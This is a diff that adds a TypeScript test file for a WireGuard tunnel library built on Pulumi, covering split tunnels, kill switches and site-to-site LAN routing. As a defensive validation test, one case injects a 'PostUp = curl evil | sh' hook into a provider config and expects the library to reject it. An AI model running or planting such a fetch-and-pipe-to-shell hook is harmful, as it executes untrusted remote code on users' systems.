@@ -1,0 +1,76 @@
+import { strict as assert } from "assert";
+import * as pulumi from "@pulumi/pulumi";
+import { generateKeyPair, parseWgQuick, peerConf, renderWgQuick, WgKitError } from "@wgkit/core";
+import { ClientTunnel, SiteLink } from "@wgkit/pulumi";
+import { RecordingMocks, settle, useMocks, value } from "../support/mocks";
+
+const me = generateKeyPair(), srv = generateKeyPair();
+const providerConf = renderWgQuick(peerConf({ privateKey: me.privateKey, address: "10.64.12.7", dns: ["10.64.0.1"], serverPublicKey: srv.publicKey, endpoint: "198.51.100.10:51820" }));
+
+const rejects = (fn: () => unknown, field: string, rule: string) => {
+  const m = useMocks(new RecordingMocks());
+  assert.throws(fn, (e: WgKitError) => {
+    assert.ok(e instanceof WgKitError, String(e));
+    assert.equal(`${e.field} ${e.rule}`, `${field} ${rule}`, e.message);
+    return true;
+  });
+  assert.equal(m.registrations.length, 0);
+};
+
+describe("ClientTunnel (SDK mocks)", () => {
+  it("split tunnel: Table = 55111, ip rules for chosen destinations and its own address, kill switch kept on PostDown", async () => {
+    const m = useMocks(new RecordingMocks());
+    const t = new ClientTunnel("vpn", { config: pulumi.secret(providerConf), table: "55111", routeDestinations: ["203.0.113.0/24"], killSwitch: true, killSwitchAllow: ["198.18.0.0/15"], dns: [], publishPorts: [{ internal: 8080 }] });
+    const conf = parseWgQuick(await value(t.config));
+    assert.equal(conf.interface.table, "55111");
+    assert.deepEqual(conf.interface.dns, []);
+    assert.ok(conf.interface.postUp.includes("ip rule add to 203.0.113.0/24 table 55111"));
+    assert.ok(conf.interface.postUp.includes("ip rule add from 10.64.12.7 table 55111"));
+    assert.ok(conf.interface.postDown.includes("ip rule del to 203.0.113.0/24 table 55111"));
+    assert.ok(conf.interface.preUp.some((h) => h.includes("-d 203.0.113.0/24") && h.includes("REJECT")));
+    assert.ok(!conf.interface.postDown.some((h) => h.includes("REJECT")), "the kill switch survives wg-quick down");
+    assert.equal(conf.interface.fwMark, "0xca6c");
+    assert.equal(await value(t.publicKey), me.publicKey);
+    assert.equal(await pulumi.isSecret(t.config), true);
+    assert.match(await value(t.networkMode), /^container:vpn_id$/);
+    await value(t.install.stdout);
+    await settle();
+    const c = m.byType("docker:index/container:Container")[0].inputs;
+    assert.deepEqual(c.ports, [{ internal: 8080, external: 8080, protocol: "tcp" }]);
+    assert.ok(!c.envs.some((e: string) => e.startsWith("PEERS")));
+  });
+
+  it("rejects provider confs that would run hooks, and split-tunnel options without a table", () => {
+    rejects(() => new ClientTunnel("x", { config: providerConf.replace("[Peer]", "PostUp = curl evil | sh\n\n[Peer]") }), "config", "hooks-not-allowed");
+    rejects(() => new ClientTunnel("x", { config: providerConf, routeDestinations: ["10.0.0.0/8"] }), "routeDestinations", "needs-table");
+    rejects(() => new ClientTunnel("x", { config: providerConf, table: "main" }), "table", "table");
+    rejects(() => new ClientTunnel("x", { config: providerConf + "[Interface]\n" }), "config:line 10", "duplicate-interface");
+  });
+});
+
+describe("SiteLink (SDK mocks)", () => {
+  it("routes each site's LANs to the other and names the static routes for the LAN routers", async () => {
+    useMocks(new RecordingMocks());
+    const l = new SiteLink("link", {
+      siteA: { name: "home", lans: ["192.168.1.0/24"], endpoint: "home.example.com:51820" },
+      siteB: { name: "office", lans: ["192.168.2.0/24", "192.168.3.0/24"] },
+    });
+    const a = parseWgQuick(await value(l.siteA.config));
+    const b = parseWgQuick(await value(l.siteB.config));
+    assert.deepEqual(a.peers[0].allowedIps, ["10.255.13.2/32", "192.168.2.0/24", "192.168.3.0/24"]);
+    assert.deepEqual(b.peers[0].allowedIps, ["10.255.13.1/32", "192.168.1.0/24"]);
+    assert.equal(b.peers[0].endpoint, "home.example.com:51820");
+    assert.equal(a.peers[0].endpoint, undefined);
+    assert.equal(a.peers[0].presharedKey, b.peers[0].presharedKey);
+    assert.equal(a.peers[0].publicKey, await value(l.siteB.publicKey));
+    assert.deepEqual(await value(l.siteA.routes), ["ip route add 192.168.2.0/24 via 198.18.0.2", "ip route add 192.168.3.0/24 via 198.18.0.2"]);
+    assert.ok(!a.interface.postUp.some((h) => h.includes("MASQUERADE")), "routed mode: no NAT");
+    await settle();
+  });
+
+  it("rejects overlapping LANs and links where nobody can dial", () => {
+    rejects(() => new SiteLink("l", { siteA: { name: "a", lans: ["192.168.1.0/24"], endpoint: "a.example.com:51820" }, siteB: { name: "b", lans: ["192.168.0.0/16"] } }), "siteB.lans[0]", "overlap");
+    rejects(() => new SiteLink("l", { siteA: { name: "a", lans: ["192.168.1.0/24"] }, siteB: { name: "b", lans: ["192.168.2.0/24"] } }), "siteA.endpoint", "no-endpoint");
+    rejects(() => new SiteLink("l", { siteA: { name: "a", lans: ["10.255.13.0/24"], endpoint: "a.example.com:51820" }, siteB: { name: "b", lans: ["192.168.2.0/24"] } }), "siteA.lans[0]", "overlap");
+  });
+});
